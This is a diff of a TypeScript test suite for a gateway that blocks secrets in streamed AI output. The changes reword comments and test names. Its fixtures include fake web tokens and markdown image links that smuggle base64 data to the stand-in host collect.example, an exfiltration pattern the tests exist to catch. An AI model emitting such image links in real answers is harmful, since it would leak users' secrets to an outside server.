@@ -9,7 +9,7 @@ import { alias, type GuardedGateway, startGuardedGateway } from '../support/star
 
 const pack = join(import.meta.dirname, '../../examples/rule-pack');
 
-/** Rules of the pack, of the section that judges answers. */
+/** Rules of the pack's section for answers. */
 function packRules(file: string, ids: readonly string[]): readonly BaselineRule[] {
   const { spec } = parse(readFileSync(join(pack, file), 'utf8'));
   const { baseline } = definitionSchema.parse(spec.definition).response;
@@ -40,7 +40,7 @@ const bundle: Bundle = {
 const base64 = (bytes: number): string => 'QUJDRGVm'.repeat(Math.ceil(bytes / 8)).slice(0, bytes);
 const lines = (text: string): string => text.replace(/.{64}/g, '$&\n');
 
-/** Texts of about 2 KB of which nothing may leave: longer than a window of 1,024 bytes and its overlap of 256. */
+/** Texts of about 2 KB of which no byte may be sent: longer than a window of 1,024 bytes and its overlap of 256. */
 const secrets = {
   'a JSON web token': `eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJ${base64(1_200)}.${base64(800)}`,
   'a JSON web token with a certificate in its header': `eyJhbGciOiJSUzI1NiIsIng1YyI6${base64(900)}.eyJ${base64(600)}.${base64(500)}`,
@@ -50,7 +50,7 @@ const secrets = {
   'an image with a long path': `![chart](https://collect.example/${base64(2_000)})`,
   'an image with a long query': `![chart](https://collect.example/p.png?d=${base64(2_000)})`,
 };
-/** Around the end of the first and the second window, and far from both. */
+/** Offsets around the end of the first and the second window, and far from both. */
 const offsets = [0, 300, 760, 900, 1_015, 1_023, 1_300, 1_790, 2_040, 2_600];
 
 let world: GuardedGateway;
@@ -73,15 +73,18 @@ async function streamedText(content: string, frameLength: number): Promise<strin
     .join('');
 }
 
-test.each(Object.entries(secrets))('%s of 2 KB leaves no byte in a stream, wherever it begins', async (_, secret) => {
-  for (const [index, offset] of offsets.entries()) {
-    const before = 'some words '.repeat(300).slice(0, offset).replace(/.$/, ' ');
-    const received = await streamedText(`${before}${secret} and more words.`, [7, 64, 4_000][index % 3] ?? 7);
-    expect({ offset, received: before.startsWith(received) }).toEqual({ offset, received: true });
-  }
-});
+test.each(Object.entries(secrets))(
+  'no byte of %s of 2 KB leaves a gateway in a stream, at any offset',
+  async (_, secret) => {
+    for (const [index, offset] of offsets.entries()) {
+      const before = 'some words '.repeat(300).slice(0, offset).replace(/.$/, ' ');
+      const received = await streamedText(`${before}${secret} and more words.`, [7, 64, 4_000][index % 3] ?? 7);
+      expect({ offset, received: before.startsWith(received) }).toEqual({ offset, received: true });
+    }
+  },
+);
 
-test('a stream that holds no secret arrives whole', async () => {
+test('a stream that contains no secret arrives completely', async () => {
   const clean = 'https://docs.example/path?page=2 and ![a](https://e.example/p.png), token: none. '.repeat(40);
   expect(await streamedText(clean, 50)).toBe(clean);
 });
